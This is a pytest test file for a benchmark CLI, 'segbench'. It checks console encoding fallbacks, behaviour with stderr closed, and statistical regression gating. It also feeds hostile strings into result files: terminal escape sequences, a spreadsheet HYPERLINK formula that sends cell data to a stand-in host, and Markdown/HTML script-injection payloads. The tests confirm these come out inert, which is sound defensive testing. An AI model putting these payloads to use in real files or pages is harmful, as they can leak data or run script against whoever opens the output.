"""Output never fails and never carries a file's controls: consoles that cannot encode the
report's symbols, a closed stderr, terminal escapes and markup in a result file's strings,
and the regression gate on samples too small for its test.

The command line is the real one (`python -m segbench` in a subprocess); result files are a
committed one (docs/results) edited as a user's run or a hostile file would have it."""

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from cli_helpers import fake, segbench

from segbench.report.printable import markdown_cell, printable
from segbench.results.result import Result, load_result, recompute
from segbench.results.schema import to_json
from segbench.results.stats import min_p_value, steps_to_decide

REAL = Path(__file__).parents[1] / "docs" / "results" / "segbench-quick-cpu-20261126T162833Z.json"
SMOKE = ["run", "--preset", "smoke", "--device", "cpu", "--no-check-numerics"]
# Everything a terminal may act on: C0 but newline, DEL, C1.
CONTROL = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")


def result_file(tmp_path: Path, name: str, scale: float = 1.0, steps: int = 20, edit=None):
    """The committed quick CPU result, its first `steps` timed steps times `scale`, its
    summary made from them as a run would have written it."""
    data = json.loads(REAL.read_text())
    timed = [s for s in data["steps"] if s["phase"] == "timed"]
    data["steps"] = [s for s in data["steps"] if s["phase"] != "timed"] + timed[:steps]
    data["config"]["steps"] = steps
    for step in data["steps"]:
        step["ms"] *= scale
    if edit:
        edit(data)
    data["summary"] = to_json(recompute(Result.from_dict(data)).result.summary)
    path = tmp_path / name
    path.write_text(json.dumps(data))
    return path


def run_bytes(*args, cwd: Path, env: dict, preexec_fn=None) -> subprocess.CompletedProcess:
    """segbench as a user starts it, its output kept as bytes (it is not UTF-8 here)."""
    return subprocess.run(
        [sys.executable, "-m", "segbench", *args],
        capture_output=True,
        cwd=cwd,
        env={**os.environ, "SEGBENCH_CACHE": str(cwd / "cache"), "COLUMNS": "200", **env},
        timeout=300,
        check=False,
        preexec_fn=preexec_fn,
    )


def close_stderr() -> None:
    """Popen preexec_fn: start the command as `2>&-` does."""
    os.close(2)


# ---------------------------------------------------------------- consoles that are not UTF-8


@pytest.mark.parametrize("encoding", ["ascii", "latin-1", "cp1252"])
def test_compare_degrades_symbols_on_a_console_that_cannot_encode_them(tmp_path, encoding):
    base = result_file(tmp_path, "base.json")
    new = result_file(tmp_path, "new.json", scale=0.8)
    done = run_bytes(
        "compare", str(base), str(new), cwd=tmp_path, env={"PYTHONIOENCODING": encoding}
    )
    assert done.returncode == 0, done.stderr.decode(encoding, "replace")
    out = done.stdout.decode(encoding)  # strict: every byte is of the console's encoding
    assert "Traceback" not in out + done.stderr.decode(encoding)
    times = "x" if encoding == "ascii" else "×"  # latin-1 and cp1252 have ×
    dash = "–" if encoding == "cp1252" else "-"  # cp1252 has –
    assert f"1.00{times} (baseline)" in out
    assert re.search(rf"1\.2\d{times} \(1\.\d\d{dash}1\.\d\d\)", out)
    assert "warning: The published figures were measured with Keras 2" in out


@pytest.mark.parametrize("encoding", ["ascii", "latin-1"])
def test_a_run_on_an_ascii_console_prints_where_it_saved_the_result(
    small_dataset, tmp_path, encoding
):
    done = run_bytes(
        *SMOKE,
        "--data",
        str(small_dataset),
        "--out",
        "res",
        cwd=tmp_path,
        env={"PYTHONIOENCODING": encoding, **fake()},
    )
    out = done.stdout.decode(encoding)
    assert done.returncode == 0, done.stderr.decode(encoding, "replace")
    (saved,) = (tmp_path / "res").glob("*.json")
    assert out.splitlines()[-2:] == ["result written to:", f"res/{saved.name}"]
    plus_minus = "+/-" if encoding == "ascii" else "±"  # latin-1 has ±, not σ
    assert f"time per step (mean {plus_minus} sigma)" in out
    assert load_result(saved).status == "complete"


# ---------------------------------------------------------------- stderr closed


@pytest.mark.slow
def test_a_run_with_stderr_closed_saves_and_says_where_on_stdout(small_dataset, tmp_path):
    done = run_bytes(
        *SMOKE,
        "--data",
        str(small_dataset),
        "--out",
        "res",
        cwd=tmp_path,
        env={},
        preexec_fn=close_stderr,
    )
    out = done.stdout.decode()
    assert done.returncode == 0, out
    (saved,) = (tmp_path / "res").glob("*.json")
    assert out.splitlines()[-2:] == ["result written to:", f"res/{saved.name}"]
    # Descriptor 2 was no file of segbench's: nothing the frameworks log reached the result.
    assert load_result(saved).status == "complete"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["res"]


@pytest.mark.parametrize("pipe", ["both", "stdout"])
def test_a_reader_that_goes_away_mid_run_loses_no_measurement(small_dataset, tmp_path, pipe):
    """`segbench run 2>&1 | head -1`: the pipe closes while the steps run; the run goes on,
    saves its result and exits 0 (its later output goes nowhere)."""
    command = [sys.executable, "-m", "segbench", *SMOKE, "--steps", "60", "--no-peak"]
    command += ["--data", str(small_dataset), "--out", "res"]
    env = {**os.environ, **fake(sleep_s=0.03), "SEGBENCH_CACHE": str(tmp_path / "cache")}
    run = subprocess.Popen(
        command,
        cwd=tmp_path,
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT if pipe == "both" else subprocess.DEVNULL,
    )
    try:
        if pipe == "both":
            run.stdout.readline()  # the first phase line, then the reader leaves
        run.stdout.close()
        assert run.wait(timeout=120) == 0
    finally:
        run.kill()
    (saved,) = (tmp_path / "res").glob("*.json")
    result = load_result(saved)
    assert result.status == "complete" and result.summary.steps == 60


def test_an_error_with_stderr_closed_is_one_line_on_stdout_with_its_exit_code(tmp_path):
    done = run_bytes("compare", "missing.json", cwd=tmp_path, env={}, preexec_fn=close_stderr)
    assert done.returncode == 2
    (line,) = done.stdout.decode().splitlines()
    assert line.startswith("error: ") and "missing.json" in line


# ---------------------------------------------------------------- a result file's strings

HOSTILE = (
    "Evil\x1b[2J\x1b]0;title\x07 [red]x[/red] [link=http://e.example]y[/link] "
    "a|b <i>c</i> & d\nnext\tline\x9b2J\x7f\u202eZ"
)


def hostile(data: dict) -> None:
    """Controls, rich markup, Markdown and HTML in every kind of string a file holds."""
    data["environment"]["cpu"]["model"] = HOSTILE
    data["environment"]["packages"]["tensorflow"] = "2.19.1" + HOSTILE
    data["environment"]["os"]["release"] = HOSTILE
    data["environment"]["python"] = HOSTILE


@pytest.mark.parametrize("output", ["table", "csv", "markdown", "json"])
def test_controls_and_markup_from_a_result_file_never_reach_the_terminal(tmp_path, output):
    base = result_file(tmp_path, "base.json")
    bad = result_file(tmp_path, "bad\x1b[2J.json", scale=0.8, edit=hostile)
    done = segbench(
        "compare", str(base), str(bad), "--format", output, cwd=tmp_path, env={"COLUMNS": "2000"}
    )
    assert done.returncode == 0, done.stderr
    assert not CONTROL.search(done.stdout + done.stderr)
    assert "\u202e" not in done.stdout + done.stderr
    if output == "table":  # the markup is shown, not obeyed
        assert "[red]x[/red] [link=http://e.example]y[/link]" in done.stdout
    if output == "csv":
        import csv

        rows = list(csv.reader(done.stdout.splitlines()))
        assert {len(row) for row in rows} == {len(rows[0])}
        assert "Evil[2J]0;title [red]x[/red]" in rows[2][1]
    if output == "markdown":
        tables = [line for line in done.stdout.splitlines() if line.startswith("|")]
        header = tables[0]
        cells = re.compile(r"(?<!\\)\|")
        main = tables[: next(i for i, t in enumerate(tables) if t.startswith("| fact |"))]
        assert {len(cells.findall(t)) for t in main} == {len(cells.findall(header))}
        facts = tables[len(main) :]
        assert {len(cells.findall(t)) for t in facts} == {4}  # fact, #1, #2
        assert "<i>" not in done.stdout and "&lt;i&gt;c&lt;/i&gt; &amp; d" in done.stdout
    if output == "json":  # the data as it is, escaped by JSON
        rows = json.loads(done.stdout)["rows"]
        assert rows[1]["label"].startswith("CPU: " + HOSTILE)
        assert "\\u001b[2J" in done.stdout


def test_a_chart_of_hostile_labels_is_written(tmp_path):
    pytest.importorskip("matplotlib")
    base = result_file(tmp_path, "base.json")

    def broken_math(data: dict) -> None:
        hostile(data)
        data["environment"]["cpu"]["model"] += r" $\frac$ 5 $"  # matplotlib's math, broken

    bad = result_file(tmp_path, "bad.json", scale=0.8, edit=broken_math)
    done = segbench("compare", str(base), str(bad), "--plot", "chart.png", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert (tmp_path / "chart.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert not CONTROL.search(done.stdout + done.stderr)


def test_printable_keeps_text_and_drops_every_control():
    assert printable("Intel® Xeon® × 8 — σ") == "Intel® Xeon® × 8 — σ"
    assert printable("a\x1b[2Jb\x07c\x9bd\x7fe\x00f") == "a[2Jbcdef"
    assert printable("one\ntwo\tthree\r\n") == "one two three  "
    assert markdown_cell("a|b <x> & \\") == "a\\|b &lt;x&gt; &amp; \\\\"


# ---------------------------------------------------------------- the gate on few steps


def test_the_smallest_p_is_that_of_every_step_slower_than_every_other():
    from scipy import stats

    for n, m in [(2, 2), (3, 3), (4, 4), (4, 5), (5, 5), (4, 6), (3, 9), (8, 8), (2, 40)]:
        separated = stats.mannwhitneyu(np.arange(n), np.arange(n, n + m)).pvalue
        assert min_p_value(n, m) == pytest.approx(separated, rel=1e-9)
    assert min_p_value(4, 4) == pytest.approx(2 / 70)  # 0.029: never below 0.01
    assert min_p_value(1, 1000) == 1.0  # no test below two steps a side
    assert min_p_value(200_000, 200_000) < 1e-20
    assert (steps_to_decide(4, 4), steps_to_decide(1, 20), steps_to_decide(3, 4)) == (5, 2, 5)


def test_the_gate_on_4_step_results_says_it_cannot_decide_and_fails(tmp_path):
    base = result_file(tmp_path, "base.json", steps=4)
    slower = result_file(tmp_path, "slower.json", scale=4.5, steps=4)
    done = segbench(
        "compare", str(base), str(slower), "--no-references", "--fail-if-slower", "5", cwd=tmp_path
    )
    assert done.returncode == 3
    assert done.stderr.strip().splitlines() == [
        f"error: {slower}: too few timed steps to decide against {base}: 4 and 4 steps (the "
        "smallest p possible is 0.029), need at least 5 each for p < 0.01; rerun both with "
        "--steps 5 or more (it is 350.0 % slower by the medians)"
    ]
    assert "ok:" not in done.stdout + done.stderr
    # The table says the same: not "no significant difference", which 4 steps cannot test.
    assert "too few steps to tell (p = 0.029; 4 vs 4 steps; 5 each can decide)" in done.stdout
    assert "no significant difference" not in done.stdout
    # One side long enough: the message names the run to measure again, the other one.
    longer = result_file(tmp_path, "longer.json", scale=4.5, steps=5)
    one = segbench(
        "compare", str(base), str(longer), "--no-references", "--fail-if-slower", "5", cwd=tmp_path
    )
    assert one.returncode == 3 and f"rerun {base} with --steps 5 or more" in one.stderr
    # A single timed step: no test at all, and the table says so as well.
    single = result_file(tmp_path, "single.json", scale=4.5, steps=1)
    done = segbench("compare", str(base), str(single), "--no-references", cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "too few steps to tell (1 vs 4 steps; 5 each can decide)" in done.stdout
    # Two runs of one machine share a device label: the lines under the table name the files.
    assert f"  #1 {base}: quick, TensorFlow" in done.stdout
    assert f"  #2 {single}: quick, TensorFlow" in done.stdout
    gate = segbench(
        "compare", str(base), str(single), "--no-references", "--fail-if-slower", "5", cwd=tmp_path
    )
    assert gate.returncode == 3
    assert "1 and 4 steps (no test below 2 steps a side)" in gate.stderr
    assert "rerun both with --steps 5" in gate.stderr
    # Faster, or slower by less than allowed: the medians decide, whatever the test could say.
    faster = result_file(tmp_path, "faster.json", scale=0.5, steps=4)
    passed = segbench(
        "compare", str(base), str(faster), "--no-references", "--fail-if-slower", "5", cwd=tmp_path
    )
    assert passed.returncode == 0, passed.stderr
    assert passed.stderr.startswith("ok: no result is significantly slower")


@pytest.mark.parametrize(("limit", "code"), [("5", 3), ("40", 0)])
def test_the_gate_on_20_step_results_fails_or_passes_on_the_test(tmp_path, limit, code):
    base = result_file(tmp_path, "base.json")
    slower = result_file(tmp_path, "slower.json", scale=1.3)
    done = segbench(
        "compare",
        str(base),
        str(slower),
        "--no-references",
        "--fail-if-slower",
        limit,
        cwd=tmp_path,
    )
    assert done.returncode == code, done.stderr
    (line,) = done.stderr.strip().splitlines()
    if code:
        assert line.startswith(f"error: {slower} is 30.0 % slower than {base}")
        assert "more than the 5 % allowed" in line
    else:
        assert line == f"ok: no result is significantly slower than {base} by more than 40 %"


def test_the_runtimes_start_up_lines_are_dropped_and_its_warnings_kept(capfd):
    """gRPC's start-up chatter, written by C++ to file descriptor 2, while a strategy starts."""
    import os

    from segbench.measure.backend import runtime_info_dropped

    with runtime_info_dropped():
        os.write(2, b"WARNING: All log messages before absl::InitializeLog() is called are ")
        os.write(2, b"written to STDERR\n")
        os.write(2, b"I0000 00:00:1796009596.565150   16736 grpc_server_lib.cc:463] Started\n")
        os.write(2, b"E0000 00:00:1796009596.6 16736 coordination_service.cc:9] peer lost\n")
    assert capfd.readouterr().err == (
        "E0000 00:00:1796009596.6 16736 coordination_service.cc:9] peer lost\n"
    )


# ---------------------------------------------------------------- exports that stay inert

FORMULAS = [
    '=HYPERLINK("http://e.example/?d="&A1,"x")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    " =1+2",  # a spreadsheet skips the blank and runs the formula
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(tmp_path, formula):
    import csv

    def formulas(data: dict) -> None:
        data["environment"]["cpu"]["model"] = formula  # the row's device label
        data["environment"]["packages"]["tensorflow"] = formula  # its conditions

    result_file(tmp_path, "base.json")
    name = f"{formula.replace('/', '')}.json"  # the source cell starts with the formula
    result_file(tmp_path, name, scale=0.8, edit=formulas)
    done = segbench("compare", "--format", "csv", "--", "base.json", name, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(done.stdout.splitlines()))
    cells = [v for row in rows for v in row.values() if v]
    assert not [c for c in cells if c.lstrip().startswith(("=", "+", "-", "@")) and not _number(c)]
    hostile_row = rows[1]
    assert hostile_row["source"] == "'" + name  # shown as typed, never run
    assert hostile_row["device"] == f"CPU: {formula} × 2"  # inside a cell a formula is text
    assert float(hostile_row["speedup"]) == pytest.approx(1 / 0.8, rel=0.05)
    assert float(hostile_row["ms_per_step"]) > 0  # numbers stay numbers


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize(
    ("label", "inert"),
    [
        ("![x](http://e.example/pixel.png)", r"!\[x\](http\://e.example/pixel.png)"),
        ("[click](javascript:alert(1))", r"\[click\](javascript:alert(1))"),
        ("[a][ref]\n\n[ref]: http://e.example", r"\[a\]\[ref\]  \[ref\]: http\://e.example"),
        ("see www.e.example or HTTPS://e.example", r"see www\.e.example or HTTPS\://e.example"),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)&gt;"),
        ("_www.e.example and x_https://e.example", r"_www\.e.example and x_https\://e.example"),
        ("mail ada@e.example", r"mail ada\@e.example"),
    ],
)
def test_markdown_cells_hold_no_link_image_or_html(label, inert):
    assert markdown_cell(label) == inert
